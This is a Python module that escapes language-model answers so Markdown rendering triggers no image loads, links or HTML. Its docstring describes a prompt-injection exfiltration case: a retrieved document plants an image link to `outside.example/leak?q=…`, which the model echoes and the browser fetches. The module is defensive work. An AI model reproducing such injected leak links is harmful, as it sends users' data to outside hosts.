"""Model output made safe to render as Markdown in the browser.

A model repeats what it reads: a RAG document or a chat turn holding
``![status](https://outside.example/leak?q=…)`` comes back in its answer, and
Markdown would have the browser fetch that address (carrying whatever the model
put into it) the moment the answer is shown. :func:`safe_markdown` keeps the
answer's formatting (bold, lists, headings, code blocks) but turns every image,
link, autolink, bare URL and raw HTML into plain text, so showing an answer never
makes a request and never offers a link.

Fenced code blocks keep their content as it is (code is never a link or an image), written
out again with a fence at the start of a line that is longer than any backtick run inside, so
that no surrounding list or quote can end the block early and expose its content. Everything
else is escaped
character by character (``\\`` ``[`` ``]`` ``<`` ``$``), and bare addresses
(``scheme://``, ``www.``, ``name@host``), which GitHub-flavoured Markdown links, get an
invisible word joiner (U+2060) before their ``:``, after ``www`` and after the ``@``.
"""

from __future__ import annotations

import re

_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
_CLOSING = re.compile(r"^ {0,3}(`{3,}|~{3,})[ \t]*$")
_ESCAPED = re.compile(r"([\\\[\]<$])")
_SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.-]*)(:(?=//)|(?<=mailto):|(?<=xmpp):)")
_WWW = re.compile(r"(?i)\b(www)(?=\.)")
_EMAIL_AT = re.compile(r"(?<=[\w.+-])@(?=[\w-])")
# GitHub-flavoured Markdown (Streamlit's) links bare addresses after parsing, in the text itself,
# where backslash escapes are already gone: an invisible word joiner breaks the pattern instead
JOINER = "\u2060"
_LANGUAGE = re.compile(r"[\w+#.-]{1,30}")


def _escape(text: str) -> str:
    text = _ESCAPED.sub(r"\\\1", text)
    text = _SCHEME.sub(lambda m: m.group(1) + JOINER + m.group(2), text)
    text = _WWW.sub(lambda m: m.group(1) + JOINER, text)
    return _EMAIL_AT.sub("@" + JOINER, text)


def _code_block(lines: list[str], info: str) -> str:
    """A fenced code block that Markdown reads as code wherever it stands.

    The fence starts at the beginning of a line (which ends any list or quote before it)
    and is longer than any run of backticks inside, so only its own closing line closes it.
    """
    body = "".join(lines)
    runs = [len(r) for r in re.findall(r"`+", body)]
    fence = "`" * max(3, max(runs, default=0) + 1)
    language = info.strip() if _LANGUAGE.fullmatch(info.strip()) else ""
    if body and not body.endswith("\n"):
        body += "\n"
    return f"{fence}{language}\n{body}{fence}\n"


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that renders its formatting but no image, link or HTML.

    Args:
        text: what a model wrote (any string).

    Returns:
        Markdown for ``st.markdown``: the same words, with images, links, autolinks and
        HTML shown as the characters they are made of; fenced code blocks written out again
        in a form no context can turn back into text.
    """
    out: list[str] = []
    plain: list[str] = []
    code: list[str] = []
    fence: tuple[str, int, int, str] | None = None  # (character, length, indent, info) of the open fence
    for line in text.splitlines(keepends=True):
        body = line.rstrip("\r\n")
        if fence is None:
            match = _FENCE.match(body)
            if match and not (match.group(2)[0] == "`" and "`" in match.group(3)):
                if plain:
                    out.append(_escape("".join(plain)))
                    if not "".join(plain).endswith("\n"):
                        out.append("\n")
                plain = []
                fence = (match.group(2)[0], len(match.group(2)), len(match.group(1)), match.group(3))
            else:
                plain.append(line)
            continue
        closing = _CLOSING.match(body)
        if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= fence[1]:
            out.append(_code_block(code, fence[3]))
            code, fence = [], None
            continue
        # content lines lose up to the opening fence's indentation, as in CommonMark
        strip = len(body) - len(body.lstrip(" "))
        code.append(line[min(strip, fence[2]):])
    if fence is not None:
        out.append(_code_block(code, fence[3]))  # an unclosed fence is code to the end, closed here
    if plain:
        out.append(_escape("".join(plain)))
    return "".join(out)
